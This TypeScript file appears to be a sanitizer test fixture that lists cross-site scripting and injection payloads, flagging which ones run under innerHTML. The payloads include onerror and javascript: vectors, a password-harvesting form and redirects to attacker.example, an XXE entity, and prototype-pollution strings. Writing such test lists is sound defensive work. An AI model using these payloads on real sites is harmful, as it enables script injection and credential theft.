/** Our own attacks: a few of each kind for machines without the collection, and those that aim at this project. */

interface OwnAttack {
  id: string;
  payload: string;
  /** Whether it runs when it is assigned to `innerHTML`, in every engine. */
  isLive: boolean;
}

const liveAttacks = [
  '<img src=x onerror=alert(1)>',
  '<svg><image href=x onerror=alert(1)></svg>',
  '<p>a</p><IMG SRC="x" OnErRoR="alert&#40;1&#41;" alt="a">',
  '"><img src=x onerror=alert(1)>',
  '</title></textarea></script></style><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)><![CDATA[',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><img src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>a</summary>b</details>',
];

const otherAttacks = [
  '<svg onload=alert(1)></svg>',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java\tscript\n:alert(1)">a</a>',
  '<a href="&#106;avascript&colon;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>',
  '<a href="blob:https://attacker.example/1">a</a><a href="file:///etc/passwd">b</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//https://attacker.example/',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '//attacker.example/\\@publisher.example',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,a"></object><embed src="//attacker.example/a.swf">',
  '<form action="https://attacker.example/"><input name="password" type="password" autofocus><button>Log in</button></form>',
  '<button form="search" formaction="https://attacker.example/">a</button>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/a.css"><link rel="dns-prefetch" href="//attacker.example">',
  '<style>:host, * {position: fixed; inset: 0}</style><p style="position:fixed;inset:0;background:red">a</p>',
  '<p style="background:url(https://attacker.example/a)">a</p><table background="https://attacker.example/b"></table>',
  '<img name="createElement"><img id="body"><form id="query"></form><a id="stage" name="home">a</a>',
  '<p id="heading">a</p><label for="email">Your password</label><p id="summary" tabindex="-1" autofocus>b</p>',
  '<p tabindex="0" contenteditable autofocus role="alert" aria-live="assertive">a</p>',
  '<p slot="heading" part="body" exportparts="a">a</p><slot name="label">b</slot>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<dialog open>a</dialog><div popover id="a">b</div><button popovertarget="a">c</button>',
  '<offprint-booklet-form action="https://attacker.example/"></offprint-booklet-form>',
  '<div data-offprint="booklet-form" data-action="https://attacker.example/">a</div>',
  '<p is="offprint-article" src="https://attacker.example/">a</p>',
  '<marquee onstart=alert(1)>a</marquee><audio src="https://attacker.example/a" autoplay onerror=alert(1)></audio>',
  '<a href="https://attacker.example/" target="_top" rel="opener" ping="https://attacker.example/ping">a</a>',
  '<img src="x` `<script>alert(1)</script>"` `><img srcset="javascript:alert(1) 1x, https://attacker.example/a 2x">',
  '<svg><style><!--</style><a title="--><img src=x onerror=alert(1)>"></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>',
  '</script><script>alert(1)</script>{"@type": "MedicalWebPage"}<!--<script>',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}<p v-html="a" ng-app onclick=alert(1)>a</p>',
  '"}, "__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "a": {"',
  '[a](javascript:alert(1)) ![a](x"onerror="alert(1)) <javascript:alert(1)> [b]: data:text/html,a',
  '---\ntitle: !!js/function "function () {alert(1)}"\n<<: &a [*a]\n---\n',
  '&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "https://attacker.example/">]><a>&b;</a>',
  '\u202Emoc.elpmaxe\u2066 \u0000 \uD800 \uFFFE a\u0301\u0301\u0301\u0301',
  '[caption onload=alert(1)]<img src="https://attacker.example/?[a]" alt="[b onerror=alert(1)]">[/caption]',
];

export const ownAttacks: readonly OwnAttack[] = [
  ...liveAttacks.map(payload => ({payload, isLive: true})),
  ...otherAttacks.map(payload => ({payload, isLive: false})),
].map((attack, index) => ({id: `own#${String(index)}`, ...attack}));
